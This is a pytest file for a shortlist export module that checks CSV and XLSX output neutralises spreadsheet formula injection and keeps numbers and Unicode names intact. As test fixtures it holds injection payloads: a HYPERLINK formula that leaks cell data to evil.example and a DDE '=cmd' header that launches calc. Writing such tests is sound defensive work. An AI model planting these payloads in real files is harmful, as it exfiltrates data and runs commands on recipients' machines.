"""Exported shortlists: formulas neutralised in CSV and XLSX, numbers kept, names intact."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from scoring.export import XLSX_MIME, neutralise_text, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "  =1+2",
    "＝1+2",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def ranked_frame() -> pd.DataFrame:
    """A ranked table whose text cells are hostile, with negative and float numbers."""
    names = [*HOSTILE, "Zoë Ñúñez-Müller", "李小龍", "محمد"]
    n = len(names)
    return pd.DataFrame({
        "rank": range(1, n + 1),
        "name": pd.Series(names, dtype="str"),
        "venue": pd.Series(["-ICML"] * n, dtype="object"),
        "zscore": [-0.5 - i for i in range(n)],
        "total": [1.0 / (i + 1) for i in range(n)],
        "=cmd|' /C calc'!A0": [0] * n,
    })


def _dangerous(value: str) -> bool:
    """A text (not numeric) value that a spreadsheet would evaluate."""
    try:
        float(value)
    except ValueError:
        return value.lstrip(" ").startswith(TRIGGERS)
    return False


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_text_prefixes_every_trigger(value: str) -> None:
    """Each formula trigger, after leading spaces and in full-width form, gets a leading apostrophe."""
    assert neutralise_text(value) == "'" + value.replace("\0", "")


def test_csv_has_no_live_formula_and_keeps_numbers() -> None:
    """No CSV cell or header starts with a trigger, and numeric columns stay numeric."""
    data = to_csv(ranked_frame())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert not any(_dangerous(cell) for row in rows for cell in row)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert pd.api.types.is_float_dtype(back["zscore"])
    assert back["zscore"].iloc[0] == -0.5
    assert pd.api.types.is_integer_dtype(back["rank"])


def test_csv_line_breaks_inside_cells_do_not_start_rows() -> None:
    """A CR or LF inside a name stays in its quoted cell: the CSV has exactly one row per candidate."""
    frame = ranked_frame()
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"), newline="")))
    assert len(rows) == len(frame) + 1
    assert [row[1] for row in rows[1:]] == [neutralise_text(n) for n in frame["name"]]


def test_csv_round_trips_names_with_diacritics_cjk_and_rtl() -> None:
    """Names with accents, CJK and Arabic come back unchanged from the UTF-8-with-BOM CSV."""
    back = pd.read_csv(io.BytesIO(to_csv(ranked_frame())), encoding="utf-8-sig")
    assert {"Zoë Ñúñez-Müller", "李小龍", "محمد"} <= set(back["name"])


def test_xlsx_cells_are_strings_or_numbers_never_formulas() -> None:
    """Every XLSX text cell is typed as a string and none starts with a trigger; numbers stay numbers."""
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(to_xlsx(ranked_frame())))
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert not any(isinstance(c.value, str) and _dangerous(c.value) for c in cells)
    header = [c.value for c in ws[1]]
    zcol = header.index("zscore") + 1
    assert ws.cell(row=2, column=zcol).value == -0.5
    assert ws.cell(row=2, column=zcol).data_type == "n"
    names = {ws.cell(row=r, column=header.index("name") + 1).value for r in range(2, ws.max_row + 1)}
    assert {"Zoë Ñúñez-Müller", "李小龍", "محمد"} <= names


def test_xlsx_has_frozen_header_and_filter() -> None:
    """The workbook opens with the header row frozen and an autofilter over the table."""
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(to_xlsx(ranked_frame()))).active
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == ws.dimensions


def test_xlsx_handles_missing_values_and_lists() -> None:
    """NaN and NA become empty cells and list cells become text, without errors."""
    from openpyxl import load_workbook

    frame = pd.DataFrame({"name": ["Ada", None], "year": pd.array([2020, None], dtype="Int64"),
                          "tags": [["a", "=b"], []], "score": [float("nan"), 1.0]})
    ws = load_workbook(io.BytesIO(to_xlsx(frame))).active
    assert [c.value for c in ws[3]][:2] == [None, None]
    assert ws.cell(row=2, column=3).value == "['a', '=b']"


def test_xlsx_mime_is_the_office_type() -> None:
    """The MIME type offered with the download is the Office Open XML spreadsheet type."""
    assert XLSX_MIME.endswith("spreadsheetml.sheet")
